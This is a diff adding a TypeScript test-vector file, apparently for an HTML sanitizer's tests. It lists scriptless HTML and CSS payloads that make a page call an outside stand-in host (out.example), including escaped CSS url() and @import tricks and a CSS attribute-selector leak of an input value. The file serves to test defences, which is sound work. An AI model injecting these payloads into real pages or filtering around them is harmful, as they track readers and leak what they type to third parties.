@@ -1,0 +1,40 @@
+import type { VectorClass } from './vector.ts'
+
+/** What runs no code, and yet tells another site who reads the page, or what its reader writes. */
+export const requests: VectorClass = {
+  raw: '@',
+  fires: [
+    '<img src=//out.example/a.png>',
+    '<img src="https:out.example/a.png"><img src="\\\\out.example\\a.png">',
+    '<img srcset="//out.example/a.png 1x, /b.png 2x">',
+    '<picture><source srcset=//out.example/a.webp><img src=/a.png></picture>',
+    '<video poster=//out.example/a.png></video>',
+    '<video src=//out.example/a.mp4 autoplay></video>',
+    '<audio src=//out.example/a.mp3 preload=auto></audio>',
+    '<video src=x:><track default src=//out.example/a.vtt><source src=//out.example/a.mp4></video>',
+    '<link rel=stylesheet href=//out.example/a.css>',
+    '<link rel=icon href=//out.example/a.ico><link rel=preload as=image href=//out.example/a.png>',
+    '<link rel=modulepreload href=//out.example/a.js>',
+    '<style>@import url(//out.example/a.css)</style>',
+    '<style>@imp\\6frt "//out.example/a.css";</style>',
+    '<style>body{background:url(//out.example/a.png)}</style>',
+    '<p style="background:url(//out.example/a.png)">x</p>',
+    '<p style="background:u\\72l(//out.example/a.png)">x</p>',
+    '<p style="background:image-set(\'//out.example/a.png\' 1x)">x</p>',
+    '<p style="list-style:url(//out.example/a.png);display:list-item">x</p>',
+    '<p style="content:url(//out.example/a.png)">x</p>',
+    '<style>@font-face{font-family:f;src:url(//out.example/f)}p{font-family:f}</style><p>x</p>',
+    '<style>input[value^="s"]{background:url(//out.example/s)}</style><input value=secret>',
+    '<table background=//out.example/a.png><tr><td>x</table>',
+    '<td background=//out.example/a.png><body background=//out.example/b.png>',
+    '<input type=image src=//out.example/a.png>',
+    '<a href=/ ping=//out.example/>x</a>',
+    '<form action=//out.example/><button>x</button><textarea name=a>',
+    '<svg><rect width=9 height=9 style="mask:url(//out.example/m.svg#m)" /></svg>',
+    '<iframe srcdoc="<img src=//out.example/a.png>"></iframe>',
+  ],
+  past: [
+    '<html manifest=//out.example/a.manifest>',
+    '<img lowsrc=//out.example/a.png dynsrc=//out.example/b>',
+  ],
+}
